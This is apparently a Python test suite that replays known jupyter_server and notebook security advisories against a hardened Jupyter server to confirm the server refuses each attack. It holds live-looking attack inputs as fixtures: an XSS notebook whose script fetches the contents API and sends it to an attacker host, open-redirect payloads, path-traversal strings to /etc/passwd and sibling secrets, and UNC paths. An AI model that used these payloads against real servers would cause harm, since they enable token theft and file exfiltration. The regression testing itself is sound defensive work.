"""Advisories against jupyter_server (research §3.1, JS-1 to JS-14), replayed against
hardened-server.

Where notebook (classic) had the same bug first, the notebook advisory is named in the same
docstring: the server code moved into jupyter_server and the black-box test is the same.
"""

from __future__ import annotations

import json
import secrets
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest

from tests.support.live import (
    EVIL,
    WS_UPGRADE,
    Listener,
    Live,
    Spec,
    active_markers,
    assert_no_offsite_redirect,
    assert_safe_redirect,
    assert_sandboxed,
    launched,
    location_problem,
    restart_on_same_port,
)

pytestmark = pytest.mark.live

RUNTIME_DIR = ".local/share/jupyter/runtime"
RUNTIME_FILE = f"{RUNTIME_DIR}/jpserver-1234.json"
RUNTIME_SECRET = "RUNTIME-TOKEN-" + secrets.token_hex(8)
SIBLING_SECRET = "TOPSECRET-" + secrets.token_hex(8)
XSS_MARKER = "XSS-NBCONVERT-" + secrets.token_hex(4)

TRUSTED = "https://trusted.example.com"
PATTERN_TRUSTED = "https://pattern.example.com"
LOOSE_POLICY = f"""
[paths]
allow_hidden = true

[cors]
allow_origins = ["{TRUSTED}"]
allow_origin_patterns = ['https://pattern\\.example\\.com']
allow_credentials = true
"""


def xss_notebook() -> nbformat.NotebookNode:
    """A notebook an attacker shares: its HTML output fetches the API and sends it away."""
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(HTML(payload))")
    cell.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": f"<script>/*{XSS_MARKER}*/fetch('/api/contents')"
                f".then(r => r.text()).then(t => fetch('https://{EVIL}/?' + t))</script>"
                f"<img src=x onerror=\"/*{XSS_MARKER}*/alert(1)\">"
            },
        )
    ]
    nb.cells = [cell]
    return nb


def lay_out(root: Path, workdir: Path) -> None:
    """The files the advisories reach for.

    - ``visible/``: ordinary files (XSSI target, positive controls);
    - the runtime file with a token under a root that contains ``$HOME`` (CVE-2022-29241), and a
      symlink with an innocent name pointing at the runtime dir;
    - ``<workdir>/rootsecret``: a sibling of the root directory (``root``) sharing its name as a
      prefix (CVE-2026-35397);
    - ``x.ipynb``: a notebook with a script output (CVE-2026-44727).
    """
    (root / "visible").mkdir()
    (root / "visible" / "a.txt").write_text("hello\n")
    (root / "visible" / "secret.js").write_text("var stolen = 'XSSI-SECRET';\n")
    runtime = root / RUNTIME_DIR
    runtime.mkdir(parents=True)
    (root / RUNTIME_FILE).write_text(json.dumps({"token": RUNTIME_SECRET}))
    (root / "linkruntime").symlink_to(RUNTIME_DIR)
    sibling = workdir / "rootsecret"
    sibling.mkdir()
    (sibling / "secret.txt").write_text(SIBLING_SECRET)
    (root / "x.ipynb").write_text(nbformat.writes(xss_notebook()))


MAIN = Spec(setup=lay_out, frontends=True)
JP = Spec(base="/jp/", setup=lay_out)
LOOSE = Spec(setup=lay_out, policy=LOOSE_POLICY, args=("--ContentsManager.allow_hidden=True",))


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Live]]:
    with launched(tmp_path_factory, MAIN, JP, LOOSE, name="js") as (main, jp, loose):
        yield {"main": main, "jp": jp, "loose": loose}


@pytest.fixture(scope="module")
def main(servers: dict[str, Live]) -> Live:
    return servers["main"]


@pytest.fixture(scope="module")
def loose(servers: dict[str, Live]) -> Live:
    return servers["loose"]


@pytest.fixture(params=["main", "jp"], ids=["base=/", "base=/jp/"])
def based(request: pytest.FixtureRequest, servers: dict[str, Live]) -> Live:
    """The same test against base_url ``/`` and ``/jp/``: several redirects were exploitable
    only with ``/``."""
    return servers[request.param]


def login_next(live: Live, value: str) -> None:
    """A logged-in user (token header) following ``/login?next=<value>`` stays on this server;
    so does the login form POST with the same ``next``."""
    target = live.url("/login") + "?next=" + value
    assert_safe_redirect(live.raw("GET", target, auth=True), live, live.url("/login"))
    page = live.req("GET", "/login")
    xsrf = page.set_cookies()["_xsrf"]
    posted = live.raw(
        "POST",
        target,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "Origin": live.origin,
            "Sec-Fetch-Site": "same-origin",
        },
        body=urllib.parse.urlencode({"password": live.token, "_xsrf": xsrf}),
        cookie=f"_xsrf={xsrf}",
    )
    assert_safe_redirect(posted, live, live.url("/login"))


# -- JS-1 -----------------------------------------------------------------------------------------


def test_ghsa_grfj_wjv9_4f9v_trailing_slash_redirect_stays_on_site(based: Live) -> None:
    """GHSA-grfj-wjv9-4f9v / CVE-2020-26232 (jupyter_server), and notebook's
    GHSA-c7vm-f5p4-8fqh / CVE-2020-26215: ``GET //evil.example/`` matched the trailing-slash
    route and was redirected to ``//evil.example``, off-site. The redirect must stay under
    base_url, for a logged-in user and for an anonymous one (sent to the login page), and this
    plain ``RequestHandler`` route must carry the policy headers."""
    base = based.base
    for target in (base + "/evil.example/", base + "//evil.example/", base + "///evil.example/"):
        for auth in (True, False):
            reply = based.raw("GET", target, auth=auth)
            assert_safe_redirect(reply, based, target)
            assert "Content-Security-Policy" in reply.headers, reply
            assert reply.header("X-Content-Type-Options") == "nosniff", reply
            assert reply.header("Referrer-Policy") in ("same-origin", "no-referrer"), reply
    reply = based.raw("GET", base + "///foo///?a=1", auth=True)
    assert_safe_redirect(reply, based, base + "///foo///")
    if base == "/":
        assert reply.header("Location") == "/foo?a=1"


def test_ghsa_grfj_wjv9_4f9v_hardened_every_location_validated(based: Live) -> None:
    """GHSA-grfj-wjv9-4f9v / CVE-2020-26232, hardened: one redirect validator for every
    ``Location``. Variants the stock fix does not cover: a raw backslash (``/\\evil.example`` is
    ``//evil.example`` to a browser), encoded slashes and dot segments that resolve to an empty
    segment (``//evil.example`` on a second hop)."""
    base = based.base
    for rest in ("\\evil.example/", "\\\\evil.example/", "%2e%2e//evil.example/",
                 "%2F%2Fevil.example/", "%09/evil.example/"):
        target = base + rest
        assert_no_offsite_redirect(based.raw("GET", target, auth=True), based, target)


# -- JS-2, JS-6, JS-12 ---------------------------------------------------------------------------


def test_ghsa_9f66_54xg_pc2c_login_next_backslash_redirect(based: Live) -> None:
    """GHSA-9f66-54xg-pc2c / CVE-2020-26275 (jupyter_server), port of notebook's
    GHSA-rv62-4pmj-xw6h / CVE-2019-10255: ``/login?next=/\\evil.example`` (Chrome reads ``\\`` as
    ``/``) and ``next=//evil.example`` sent a logged-in user off-site with base_url ``/``. Every
    variant, as a GET by a logged-in user and as the login form POST, stays under base_url."""
    base_enc = based.base.replace("/", "%2F")
    for value in ("%2F%5Cevil.example", "%5C%5Cevil.example", "%2F%2Fevil.example",
                  "%2F%2F%2Fevil.example", base_enc + "%5Cevil.example",
                  base_enc + "%2Fevil.example", "%2F%5C%5Cevil.example"):
        login_next(based, value)


def test_ghsa_r726_vmfq_j9j3_login_next_empty_netloc_redirect(based: Live) -> None:
    """GHSA-r726-vmfq-j9j3 / CVE-2023-39968 (jupyter_server) and notebook's
    GHSA-rcx2-m7jp-p9wj / CVE-2019-10856: ``urlparse('https:///evil.example')`` has no netloc,
    browsers go to ``https://evil.example``; also ``https:/evil``, ``https:evil`` and friends.
    Chained with JupyterLab CVE-2024-22421 this leaked the token. None may leave base_url."""
    for value in ("https:///evil.example", "https:/evil.example", "https:evil.example",
                  "HTTPS://evil.example", "http:evil.example", "//evil.example",
                  "///evil.example", "/%2F%2Fevil.example", "https:%2F%2Fevil.example",
                  "javascript:alert(document.domain)", "%09//evil.example",
                  " //evil.example"):
        login_next(based, value.replace(" ", "%20"))


def test_cve_2025_61669_login_next_protocol_relative_triple_slash(based: Live) -> None:
    """CVE-2025-61669 (mapping to the advisory unverified; jupyter_server commits 789fed0,
    d825b93, 624d6c0): ``next=///evil.example`` has no ``:``, so the scheme normalisation was
    skipped, and the browser navigates to ``//evil.example``."""
    for value in ("%2F%2F%2Fevil.example", "%2F%2F%2F%2Fevil.example%2Fpath", "////evil.example"):
        login_next(based, value)


# -- JS-3, JS-14 ---------------------------------------------------------------------------------


def trigger_5xx(live: Live, referer: str, marker: str) -> None:
    """``POST /nbconvert/html`` with a notebook that is not one: the reliable 500 of the
    research (jupyter_server 2.21.1), with every secret-bearing header a browser could send."""
    reply = live.raw(
        "POST",
        live.url("/nbconvert/html"),
        headers={
            "Content-Type": "application/json",
            "Cookie": f"session=SECRETCOOKIE{marker}",
            "Referer": referer,
            "Origin": live.origin,
            "X-Marker": marker,
        },
        body=json.dumps({"content": 1}),
        auth=True,
    )
    assert reply.status >= 400, reply


def test_ghsa_p737_p57g_4cpr_no_cookie_or_authorization_in_5xx_logs(main: Live) -> None:
    """GHSA-p737-p57g-4cpr / CVE-2022-24757 (jupyter_server) and notebook's
    GHSA-m87f-39q9-6f55 / CVE-2022-24758: on any 5xx the request headers, Cookie and
    Authorization included, were logged at error level. Whoever reads the log takes over the
    session. After a 5xx, the log holds neither the cookie value nor the token."""
    marker = secrets.token_hex(6)
    trigger_5xx(main, main.origin + "/lab", marker)
    log = main.wait_log(" /nbconvert/html")
    assert f"SECRETCOOKIE{marker}" not in log
    assert main.token not in log


def test_ghsa_c3mw_737p_c7g2_referer_token_scrubbed_in_5xx_logs(main: Live) -> None:
    """GHSA-c3mw-737p-c7g2 (jupyter_server 2.21.0, #1681): the 5xx header dump copied Referer
    verbatim, ``http://host/lab?token=...``. The token from a Referer never reaches the log."""
    marker = "REFTOKEN" + secrets.token_hex(6)
    trigger_5xx(main, main.origin + f"/tree?token={marker}", marker)
    log = main.wait_log(" /nbconvert/html")
    assert marker not in log


def test_ghsa_c3mw_737p_c7g2_hardened_nested_tokens_scrubbed(main: Live) -> None:
    """GHSA-c3mw-737p-c7g2, hardened (research observation O11): the scrubber looks at keys only,
    so a token inside ``next=`` (URL-encoded) or a fragment is logged verbatim, at INFO for the
    redirect to the login page and at ERROR in the 5xx Referer dump."""
    nested = "NESTED" + secrets.token_hex(6)
    main.raw("GET", main.url("/lab") + f"?next=%2Flab%3Ftoken%3D{nested}A")
    main.raw("GET", main.url("/login") + f"?next=%2Ftree%3Ftoken%3D{nested}B")
    trigger_5xx(main, main.origin + f"/lab?next=%2Ftree%3Ftoken%3D{nested}C#token={nested}D",
                nested)
    log = main.wait_log(" /nbconvert/html")
    assert nested not in log


# -- JS-4 -----------------------------------------------------------------------------------------


def test_ghsa_q874_g24w_4q9g_runtime_file_with_token_unreachable(main: Live) -> None:
    """GHSA-q874-g24w-4q9g / CVE-2022-29241 ("token bruteforcing"): with root_dir containing
    $HOME, script on the page fetched ``/api/contents/.local/share/jupyter/runtime/
    jpserver-<pid>.json`` and took the token. Every file entry point refuses the runtime file,
    for reading, writing, renaming, deleting and copying, and it stays as it was."""
    cookie = main.login_cookie()
    same = {"Referer": main.origin + "/lab", "Sec-Fetch-Site": "same-origin"}
    reads = [
        main.req("GET", f"/api/contents/{RUNTIME_FILE}", auth=True),
        main.req("GET", f"/api/contents/{RUNTIME_FILE}?content=1&format=text", auth=True),
        main.req("GET", f"/files/{RUNTIME_FILE}", auth=True, headers=same),
        main.req("GET", f"/files/{RUNTIME_FILE}", cookie=cookie, headers=same),
        main.req("GET", f"/nbconvert/html/{RUNTIME_FILE}", auth=True, headers=same),
        main.req("GET", f"/api/contents/{RUNTIME_DIR}", auth=True),
    ]
    for reply in reads:
        assert reply.status == 404, reply
        assert RUNTIME_SECRET not in reply.text
    listing = main.api("GET", "/api/contents/.local/share/jupyter")
    assert listing.status == 404 or "runtime" not in listing.text, listing
    writes = [
        main.api("PUT", f"/api/contents/{RUNTIME_FILE}",
                 {"type": "file", "format": "text", "content": "{}"}),
        main.api("DELETE", f"/api/contents/{RUNTIME_FILE}"),
        main.api("PATCH", f"/api/contents/{RUNTIME_FILE}", {"path": "visible/stolen.json"}),
        main.api("POST", "/api/contents/visible", {"copy_from": RUNTIME_FILE}),
    ]
    for reply in writes:
        assert reply.status in (400, 403, 404), reply
        assert RUNTIME_SECRET not in reply.text
    assert json.loads((main.root / RUNTIME_FILE).read_text()) == {"token": RUNTIME_SECRET}
    assert not (main.root / "visible" / "stolen.json").exists()
    copies = [p for p in (main.root / "visible").iterdir() if p.name.startswith("jpserver")]
    assert copies == []


def test_ghsa_q874_g24w_4q9g_hardened_no_oracle_and_no_alias(main: Live) -> None:
    """GHSA-q874-g24w-4q9g, hardened additions (research O3-O6): no existence oracle through
    ``/api/resolvePath`` or ``/view``, no checkpoints of the file, and a symlink with an innocent
    name (``linkruntime -> .local/share/jupyter/runtime``) reaches nothing."""
    same = {"Referer": main.origin + "/lab", "Sec-Fetch-Site": "same-origin"}
    resolved = main.api("GET", f"/api/resolvePath?path={RUNTIME_FILE}")
    assert resolved.status == 404 or resolved.json() == {"resolved": []}, resolved
    assert main.req("GET", f"/view/{RUNTIME_FILE}", auth=True).status == 404
    assert main.api("GET", f"/api/contents/{RUNTIME_FILE}/checkpoints").status == 404
    assert main.api("POST", f"/api/contents/{RUNTIME_FILE}/checkpoints").status in (400, 403, 404)
    for reply in (
        main.api("GET", "/api/contents/linkruntime/jpserver-1234.json"),
        main.req("GET", "/files/linkruntime/jpserver-1234.json", auth=True, headers=same),
        main.api("GET", "/api/contents/linkruntime"),
    ):
        assert reply.status == 404, reply
        assert RUNTIME_SECRET not in reply.text
    written = main.api("PUT", "/api/contents/linkruntime/jpserver-9999.json",
                       {"type": "file", "format": "text", "content": "{}"})
    assert written.status in (400, 403, 404), written
    assert not (main.root / RUNTIME_DIR / "jpserver-9999.json").exists()


# -- JS-5 -----------------------------------------------------------------------------------------


def test_ghsa_64x5_55rw_9974_files_not_includable_cross_site(main: Live) -> None:
    """GHSA-64x5-55rw-9974 / CVE-2023-40170 (jupyter_server) and notebook's
    GHSA-hhx8-cr55-qcxx / CVE-2019-9644: ``<script src="http://localhost:8888/files/x.js">``
    on another site sent the cookie and exposed the file (XSSI). With the cookie only: no
    Referer or a foreign one is refused, a same-origin Referer is served; HEAD alike. Hardened:
    ``Cross-Origin-Resource-Policy: same-origin`` on /files and /api."""
    cookie = main.login_cookie()
    path = "/files/visible/secret.js"
    for method in ("GET", "HEAD"):
        for headers in ({}, {"Referer": f"https://{EVIL}/x"},
                        {"Referer": f"https://{EVIL}/x", "Origin": f"https://{EVIL}"}):
            reply = main.req(method, path, cookie=cookie, headers=headers)
            assert reply.status == 403, (method, headers, reply)
            assert b"XSSI-SECRET" not in reply.body
        ok = main.req(method, path, cookie=cookie, headers={"Referer": main.origin + "/lab"})
        assert ok.status == 200, ok
        assert ok.header("Cross-Origin-Resource-Policy") == "same-origin", ok
    api = main.req("GET", "/api/contents", cookie=cookie)
    assert api.header("Cross-Origin-Resource-Policy") == "same-origin", api


def test_ghsa_64x5_55rw_9974_hardened_fetch_metadata(main: Live) -> None:
    """GHSA-64x5-55rw-9974, hardened: the browser's ``Sec-Fetch-Site: cross-site`` decides,
    whatever the Referer says (a Referer can be suppressed or, from a sibling site, be
    same-site), for /files and the API alike."""
    cookie = main.login_cookie()
    xsite = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
    for dest in ("script", "style", "image", "object", "embed"):
        headers = {**xsite, "Sec-Fetch-Dest": dest, "Referer": main.origin + "/lab"}
        reply = main.req("GET", "/files/visible/secret.js", cookie=cookie, headers=headers)
        assert reply.status in (403, 404), (dest, reply)
        assert b"XSSI-SECRET" not in reply.body
    api = main.req("GET", "/api/contents/visible", cookie=cookie,
                   headers={**xsite, "Sec-Fetch-Dest": "script"})
    assert api.status in (403, 404), api


# -- JS-7 -----------------------------------------------------------------------------------------


def test_ghsa_h56g_gq9v_vc8r_no_traceback_in_error_responses(main: Live) -> None:
    """GHSA-h56g-gq9v-vc8r / CVE-2023-49080: an unhandled exception in an API handler returned
    ``{"traceback": "<full traceback with paths>"}``. Unhandled errors (type-confused JSON
    bodies, nbconvert of a non-notebook) answer with a generic message and no traceback, in the
    API's JSON and in HTML error pages alike."""
    replies = [
        main.api("PATCH", "/api/contents/visible/a.txt", "not-an-object"),
        main.api("POST", "/api/kernels", {"name": [1]}),
        main.api("POST", "/api/sessions", {"path": 1, "type": [], "kernel": "x"}),
        main.api("POST", "/nbconvert/html", {"content": 1}),
    ]
    for reply in replies:
        assert reply.status >= 400, reply
        assert "Traceback" not in reply.text, reply
        assert 'File "' not in reply.text, reply
        if (reply.header("Content-Type") or "").startswith("application/json"):
            assert reply.json().get("traceback") in (None, ""), reply


# -- JS-8 -----------------------------------------------------------------------------------------


def test_ghsa_hrw6_wg82_cm62_static_handler_refuses_absolute_and_unc_paths(main: Live) -> None:
    """GHSA-hrw6-wg82-cm62 / CVE-2024-35178: ``FileFindHandler`` accepted absolute paths and
    called ``isfile()`` on them; on Windows an anonymous ``GET /static/%5C%5Cattacker%5Cshare``
    made the server open SMB and send its NTLMv2 hash. Every static (FileFindHandler) route
    refuses absolute, UNC and escaping paths, anonymous or logged in, and nothing connects out
    (a listener stands in for the SMB/WebDAV host)."""
    listener = Listener()
    try:
        unc = f"127.0.0.2@{listener.port}"
        tails = [
            "/etc/passwd",
            "%2Fetc%2Fpasswd",
            "..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            "%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd",
            f"%5C%5C{unc}%5Cshare%5Cx.js",
            "%5C%5C127.0.0.2%5Cshare%5Cx.js",
            f"\\\\{unc}\\share\\x.js",
            f"%2F%2F{unc}%2Fshare%2Fx.js",
            "file:%2F%2F%2Fetc%2Fpasswd",
        ]
        prefixes = ["/static/", "/static/lab/", "/lab/extensions/", "/lab/api/themes/",
                    "/kernelspecs/python3/"]
        for prefix in prefixes:
            for tail in tails:
                for auth in (False, True):
                    reply = main.raw("GET", prefix + tail, auth=auth)
                    assert reply.status != 200, reply
                    assert b"root:x:0:0" not in reply.body, reply
                    if auth:
                        assert reply.status in (400, 403, 404), reply
        assert listener.connections == 0
    finally:
        listener.close()


# -- JS-9 -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", ["main", "loose"], ids=["default", "allow_hidden"])
def test_ghsa_5789_5fc7_67v3_no_traversal_to_sibling_with_root_prefix(
    servers: dict[str, Live], which: str
) -> None:
    """GHSA-5789-5fc7-67v3 / CVE-2026-35397 and its duplicate GHSA-gf7q-q4j7-hp7c /
    CVE-2026-5422: containment checked ``abspath(p).startswith(root)``, so with root
    ``.../root`` the path ``../rootsecret/secret.txt`` passed. Read, write and delete through
    contents, files and nbconvert are refused, with the default policy and with hidden files
    allowed (where the hidden check no longer stops ``..``)."""
    live = servers[which]
    secret = live.workdir / "rootsecret" / "secret.txt"
    same = {"Referer": live.origin + "/lab", "Sec-Fetch-Site": "same-origin"}
    for target in (
        "/api/contents/%2E%2E/rootsecret/secret.txt",
        "/api/contents/..%2Frootsecret%2Fsecret.txt",
        "/api/contents/%2e%2e%2frootsecret%2fsecret.txt",
        "/api/contents/visible/..%2F..%2Frootsecret%2Fsecret.txt",
        "/files/%2E%2E/rootsecret/secret.txt",
        "/files/..%2Frootsecret%2Fsecret.txt",
        "/nbconvert/html/%2E%2E/rootsecret/secret.txt",
    ):
        reply = live.req("GET", target, auth=True, headers=same)
        assert reply.status in (400, 403, 404), reply
        assert SIBLING_SECRET not in reply.text
    for method, target, payload in (
        ("PUT", "/api/contents/%2E%2E/rootsecret/new.txt",
         {"type": "file", "format": "text", "content": "x"}),
        ("PUT", "/api/contents/%2E%2E/rootsecret/secret.txt",
         {"type": "file", "format": "text", "content": "overwritten"}),
        ("DELETE", "/api/contents/%2E%2E/rootsecret/secret.txt", None),
        ("PATCH", "/api/contents/visible/a.txt", {"path": "../rootsecret/moved.txt"}),
        ("POST", "/api/contents/visible", {"copy_from": "../rootsecret/secret.txt"}),
    ):
        reply = live.api(method, target, payload)
        assert reply.status in (400, 403, 404), (method, target, reply)
        assert SIBLING_SECRET not in reply.text
    assert secret.read_text() == SIBLING_SECRET
    assert sorted(p.name for p in secret.parent.iterdir()) == ["secret.txt"]
    assert (live.root / "visible" / "a.txt").exists()


# -- JS-10 ----------------------------------------------------------------------------------------


def ws_handshake_status(live: Live, target: str, origin: str, cookie: str) -> int:
    reply = live.raw("GET", target, headers={**WS_UPGRADE, "Origin": origin}, cookie=cookie)
    return reply.status


def test_ghsa_24qx_w28j_9m6p_origin_allow_list_is_not_a_prefix_match(loose: Live) -> None:
    """GHSA-24qx-w28j-9m6p / CVE-2026-40110: ``allow_origin_pat`` was matched with
    ``re.match`` (a prefix), so ``https://trusted.example.com.evil.com`` passed CORS (ACAO
    reflected; with credentials the attacker reads cookie-authenticated API responses), the
    origin check (API, websockets), the /files Referer check and login ``next``. hardened-server
    refuses ``ServerApp.allow_origin_pat`` (tests/test_app_refusals_live.py); its own
    ``cors.allow_origins`` (exact) and ``cors.allow_origin_patterns`` (full match) are tested
    here with credentials on, against look-alike origins and with positive controls."""
    cookie = loose.login_cookie()
    lookalikes = [
        TRUSTED + ".evil.com", TRUSTED + ":9999", TRUSTED + "edy", "http://trusted.example.com",
        "https://eviltrusted.example.com", "null",
        PATTERN_TRUSTED + ".evil.com", PATTERN_TRUSTED + "edy", "https://patternXexample.com",
    ]
    for origin in lookalikes:
        reply = loose.req("GET", "/api/contents", cookie=cookie, headers={"Origin": origin})
        assert reply.status in (403, 404), (origin, reply)
        assert reply.header("Access-Control-Allow-Origin") is None, (origin, reply)
        assert reply.header("Access-Control-Allow-Credentials") is None, (origin, reply)
    for origin in (TRUSTED, PATTERN_TRUSTED):
        ok = loose.req("GET", "/api/contents", cookie=cookie, headers={"Origin": origin})
        assert ok.status == 200, (origin, ok)
        assert ok.header("Access-Control-Allow-Origin") == origin, (origin, ok)
        assert ok.header("Access-Control-Allow-Credentials") == "true", (origin, ok)

    kernel = loose.api("POST", "/api/kernels", {"name": "python3"})
    assert kernel.status == 201, kernel
    channels = loose.url(f"/api/kernels/{kernel.json()['id']}/channels")
    try:
        for origin in (TRUSTED + ".evil.com", PATTERN_TRUSTED + ".evil.com", f"https://{EVIL}"):
            assert ws_handshake_status(loose, channels, origin, cookie) == 403, origin
        assert ws_handshake_status(loose, channels, TRUSTED, cookie) == 101
    finally:
        loose.api("DELETE", f"/api/kernels/{kernel.json()['id']}")

    for referer in (TRUSTED + ".evil.com/", PATTERN_TRUSTED + ".evil.com/x"):
        reply = loose.req("GET", "/files/visible/a.txt", cookie=cookie,
                          headers={"Referer": referer})
        assert reply.status == 403, (referer, reply)
    for value in (TRUSTED + ".evil.com/", PATTERN_TRUSTED + ".evil.com/"):
        assert_safe_redirect(loose.raw("GET", "/login?next=" + value, auth=True), loose)


# -- JS-11 ----------------------------------------------------------------------------------------


def _password_spec(password: str) -> Spec:
    from jupyter_server.auth import passwd

    return Spec(args=(f"--PasswordIdentityProvider.hashed_password={passwd(password)}",),
                token="", setup=lay_out)


def test_ghsa_5mrq_x3x5_8v8f_cookie_does_not_survive_password_change(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """GHSA-5mrq-x3x5-8v8f / CVE-2026-40934: the cookie secret was persisted and not tied to
    the credential, so a stolen login cookie stayed valid after ``jupyter server password`` and
    a restart. Log in with password P1, restart (same runtime dir, same port) with P2: the old
    cookie is refused on the API and sent to the login page on a page route."""
    first_pw, second_pw = "first-" + secrets.token_hex(12), "second-" + secrets.token_hex(12)
    with launched(tmp_path_factory, _password_spec(first_pw), name="pw") as (first,):
        cookie = first.login_cookie(password=first_pw)
        assert first.req("GET", "/api/contents", cookie=cookie).status == 200  # control
        first.server.stop_quickly()
        second = restart_on_same_port(first.server, _password_spec(second_pw), token="")
        try:
            assert second.req("GET", "/api/contents", cookie=cookie).status == 403
            page = second.req("GET", "/view/visible/a.txt", cookie=cookie)
            assert page.status == 302, page
            assert (page.header("Location") or "").startswith(second.url("/login")), page
            assert second.login_cookie(password=second_pw)  # the new password works
        finally:
            second.server.stop_quickly()


def test_ghsa_5mrq_x3x5_8v8f_hardened_cookie_does_not_survive_token_change(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """GHSA-5mrq-x3x5-8v8f, hardened: the same for a token-only server. A session obtained with
    token T1 is worthless after a restart with token T2."""
    spec = Spec(setup=lay_out)
    with launched(tmp_path_factory, spec, name="tok") as (first,):
        cookie = first.login_cookie()
        assert first.req("GET", "/api/contents", cookie=cookie).status == 200  # control
        first.server.stop_quickly()
        second = restart_on_same_port(first.server, spec, token=secrets.token_hex(32))
        try:
            assert second.req("GET", "/api/contents", cookie=cookie).status == 403
        finally:
            second.server.stop_quickly()


# -- JS-13 ----------------------------------------------------------------------------------------


def test_ghsa_fcw5_x6j4_ccmp_nbconvert_output_is_sandboxed(main: Live) -> None:
    """GHSA-fcw5-x6j4-ccmp / CVE-2026-44727 / PYSEC-2026-366 (CVSS 9.3), regression of notebook's
    GHSA-49qr-xh3w-h436 / CVE-2018-19351: ``/nbconvert/html/<nb>`` rendered attacker-authored
    HTML outputs same-origin, so their script read the token and drove the API. Every nbconvert
    HTML response (GET by path, with the token or a same-origin cookie session; POST of notebook
    JSON) carries a CSP ``sandbox`` without ``allow-same-origin``; ``?download=true`` is an
    attachment."""
    cookie = main.login_cookie()
    same = {"Referer": main.origin + "/lab", "Sec-Fetch-Site": "same-origin"}
    replies = [
        main.req("GET", "/nbconvert/html/x.ipynb", auth=True),
        main.req("GET", "/nbconvert/html/x.ipynb", cookie=cookie, headers=same),
        main.req("GET", "/nbconvert/html/x.ipynb?download=false", auth=True),
        main.api("POST", "/nbconvert/html", {"content": xss_notebook()}),
    ]
    for reply in replies:
        assert reply.status == 200, reply
        assert_sandboxed(reply)
    download = main.req("GET", "/nbconvert/html/x.ipynb?download=true", auth=True)
    assert download.status == 200
    assert (download.header("Content-Disposition") or "").startswith("attachment"), download
    assert_sandboxed(download)


def test_ghsa_fcw5_x6j4_ccmp_hardened_nbconvert_sanitised_by_default(main: Live) -> None:
    """GHSA-fcw5-x6j4-ccmp, hardened: the CSP is one layer; the exporter's ``sanitize_html``
    is on for untrusted notebooks too (policy key ``nbconvert.sanitize_html``, default true), so
    the document carries no script of the attacker's even where a CSP is ignored (a download
    opened from disk)."""
    for reply in (
        main.req("GET", "/nbconvert/html/x.ipynb", auth=True),
        main.req("GET", "/nbconvert/html/x.ipynb?download=true", auth=True),
        main.api("POST", "/nbconvert/html", {"content": xss_notebook()}),
    ):
        assert reply.status == 200, reply
        assert active_markers(reply.text, [XSS_MARKER]) == set(), reply


# -- helpers' own sanity -------------------------------------------------------------------------


def test_location_checker_flags_the_catalogue_shapes(main: Live) -> None:
    """The redirect oracle used above flags every off-site shape of research §3.7 and accepts
    same-origin paths (so a passing redirect test means something)."""
    for bad in ("//evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example",
                "https:/evil.example", "https:///evil.example", "HTTPS:evil.example",
                " //evil.example", "\t//evil.example", "/%2e%2e//evil.example",
                "/hub/../..//evil.example", "javascript:alert(1)", "/x/\n/evil"):
        assert location_problem(bad, main) is not None, bad
    for good in ("/", "/lab", "/%5Cevil.example", "/%2F%2Fevil.example", "lab?x=//evil",
                 f"http://127.0.0.1:{main.port}/lab"):
        assert location_problem(good, main) is None, good
